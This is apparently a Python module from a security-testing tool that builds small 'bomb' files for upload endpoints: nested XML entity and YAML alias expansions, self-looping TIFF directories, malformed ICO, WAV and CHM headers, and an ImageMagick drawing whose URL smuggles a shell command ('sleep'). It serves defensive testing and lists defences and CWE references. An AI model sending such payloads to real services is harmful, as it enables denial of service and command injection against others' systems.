"""Small files that are known to keep a reader busy.

What it does
    Sends documents whose references multiply (XML entities, YAML aliases), each a level deeper
    than the one before; and files that lead a reader in a circle (a TIFF directory that follows
    itself, a chunk of length zero), each behind a harmless one of the same size. All are defused:
    the deepest document stands for some megabytes, and what starts processes starts two that sleep.

Why it works
    Ten bytes more make ten times as much; nothing in the size of the file says so. A circle has no
    end at all, and readers are rarely asked when they should give up.

Expected defence
    Types that nobody needs are refused. What reads files does so without references and entities,
    and under a limit of time, memory and processes.

References
    - CWE-776, CWE-405
    - OWASP ASVS v5.0.0-1.5.1, v5.0.0-15.2.2, v5.0.0-15.2.5; WSTG-BUSL-09
    - CVE-2003-1564 (XML), CVE-2016-3714 (drawings), CVE-2018-1338 and CVE-2018-1339 (CHM)
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from hypothesis import strategies as st

from attacks.model import GENERATED, Attack, Body, Probe, Profile, SentFile, Severity, Weight
from attacks.oracles.linear_cost import linear_cost
from attacks.strategies.framing import text_sample
from attacks.strategies.ladders import climbing
from attacks.uploads import honest, upload

LEVELS = range(2, 8)
TEN = 10
DIRECTORY = struct.pack("<HHHIIH", 1, 256, 3, 1, 1, 0)  # one entry: a picture one pixel wide
DRAWING = b"push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://gauntlet.invalid/%b)'\npop"


def xml(level: int) -> bytes:
    """Return a document whose only word stands for ten of those of the level below."""
    lines = (
        b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * TEN if n else b"lol") for n in range(level)
    )
    return b"<!DOCTYPE r [%b]><r>&e%d;</r>" % (b"".join(lines), level - 1)


def yaml(level: int) -> bytes:
    """Return a document whose last list holds ten of the one above, and so on."""
    lines = (
        b"e%d: &e%d [%b]\n" % (n, n, b",".join([b"*e%d" % (n - 1) if n else b"lol"] * TEN))
        for n in range(level)
    )
    return b"".join(lines)


def _tiff(following: int) -> bytes:
    return b"II*\0" + struct.pack("<I", 8) + DIRECTORY + struct.pack("<I", following)


def _icon(count: int) -> bytes:
    return struct.pack("<HHH", 0, 1, count) + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, 40, 22)


def _wave(size: int) -> bytes:
    return b"RIFF" + struct.pack("<I", 28) + b"WAVEJUNK" + struct.pack("<I", size) + bytes(16)


def _help(size: int) -> bytes:
    return b"ITSF" + struct.pack("<IIIII", 3, 96, 1, 0, 1033) + struct.pack("<q", size) + bytes(64)


GROWING: dict[str, tuple[str, Callable[[int], bytes]]] = {
    "entities": ("xml", xml),
    "entities-in-a-picture": ("svg", xml),
    "aliases": ("yaml", yaml),
}
CIRCLES: dict[str, tuple[str, bytes, bytes]] = {
    "directory-that-follows-itself": ("tif", _tiff(0), _tiff(8)),
    "icon-of-all-sizes": ("ico", _icon(1), _icon(0xFFFF)),
    "chunk-without-end": ("wav", _wave(16), _wave(0xFFFFFFF8)),
    "help-of-negative-length": ("chm", _help(96), _help(-96)),
    "drawing-that-forks": ("mvg", DRAWING % b"x", DRAWING % b'x"|sleep 1 & sleep 1"'),
}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each bomb under its own name, and the documents as an accepted text too."""
    return tuple(_seeds(profile))


def _seeds(profile: Profile) -> Iterator[Probe]:
    for name, (extension, build) in GROWING.items():
        yield _sent(profile, extension, [build(level) for level in LEVELS], name)
    for name, (extension, harmless, circle) in CIRCLES.items():
        yield _sent(profile, extension, [harmless, circle], name)
    sample = text_sample(profile)
    if sample is not None:
        for name, build in {"entities-as-text": xml, "aliases-as-text": yaml}.items():
            yield _sent(profile, sample.extension, [build(level) for level in LEVELS], name)


def _sent(
    profile: Profile, extension: str, contents: list[bytes], variant: str = GENERATED
) -> Probe:
    files = (
        SentFile(
            filename=f"bomb.{extension}".encode(),
            content=Body((content,)),
            media_type=profile.sample.media_type.encode(),
        )
        for content in contents
    )
    return climbing((upload(profile, file).request for file in files), variant)


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Send any of them under any accepted extension."""
    ladders = [[build(level) for level in LEVELS] for _, build in GROWING.values()]
    circles = [[harmless, circle] for _, harmless, circle in CIRCLES.values()]
    return st.builds(
        lambda sample, contents: _sent(profile, sample.extension, contents),
        st.sampled_from(profile.accepted),
        st.sampled_from(ladders + circles),
    )


ATTACK = Attack(
    id="cost.known-bombs",
    title="Small files that are known to keep a reader busy",
    severity=Severity.HIGH,
    controls=("entity-expansion", "sandboxed-processing", "text-encoding"),
    cwe=(776, 405),
    asvs=("v5.0.0-1.5.1", "v5.0.0-15.2.2", "v5.0.0-15.2.5"),
    wstg=("WSTG-BUSL-09",),
    oracles=(linear_cost,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: (honest(profile),),
    weight=Weight.HEAVY,
)
